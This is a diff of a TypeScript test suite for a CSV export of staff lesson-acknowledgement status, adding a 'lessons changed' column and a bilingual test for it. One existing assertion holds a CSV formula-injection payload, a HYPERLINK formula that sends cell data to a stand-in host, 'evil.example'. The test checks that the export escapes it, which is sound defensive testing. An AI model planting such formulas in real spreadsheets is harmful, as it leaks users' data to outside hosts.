@@ -82,6 +82,7 @@ const HEADERS = [
   'Last activity (UTC)',
   'Reachable',
   'Why not reachable',
+  'Lessons changed since acknowledged',
 ];
 
 function rows(body: Buffer, delimiter = ','): string[][] {
@@ -123,11 +124,12 @@ describe('the coverage export', () => {
       '2026-11-05T12:00:00.000Z',
       'yes',
       '',
+      '',
     ]);
     expect(data[1]?.slice(4, 8)).toEqual(['yes', 'in progress', '2026-11-01', 'yes']);
     // Answered three, one right first time, not every question right yet.
     expect(data[1]?.slice(10, 14)).toEqual(['1', '3', '33%', '']);
-    expect(data[1]?.slice(17)).toEqual(['no', "'-403 ConversationBlockedByUser"]);
+    expect(data[1]?.slice(17)).toEqual(['no', "'-403 ConversationBlockedByUser", '']);
     // Nothing answered: no score rather than 0%.
     expect(data[2]?.slice(10, 14)).toEqual(['0', '0', '', '']);
     expect(data[2]?.[17]).toBe('');
@@ -149,6 +151,14 @@ describe('the coverage export', () => {
     expect(first?.slice(2, 8)).toEqual(['Sales, North', 'Office manager', 'ja', 'afgerond', '2026-11-20', 'nee']);
     expect(second?.[0]).toBe('\'=HYPERLINK("https://evil.example/?d="&A2,"Click me")');
     expect(header?.slice(12, 14)).toEqual(['Score eerste poging', 'Alles goed beantwoord op (UTC)']);
+  });
+
+  it('says who needs to re-acknowledge and how many lessons changed for them, in both languages', () => {
+    const changed = [report(member('Gus'), { status: 'needs-reacknowledge', lessonsChanged: 2, acknowledgedVersion: 'v2026-10' })];
+    const [, en] = rows(exportCsv(changed));
+    expect([en?.[5], en?.at(-1)]).toEqual(['needs to re-acknowledge', '2']);
+    const [header, nl] = rows(exportCsv(changed, 'nl'), ';');
+    expect([header?.at(-1), nl?.[5], nl?.at(-1)]).toEqual(['Lessen gewijzigd sinds bevestiging', 'moet opnieuw bevestigen', '2']);
   });
 
   it('is just the header line when there is nobody to list', () => {
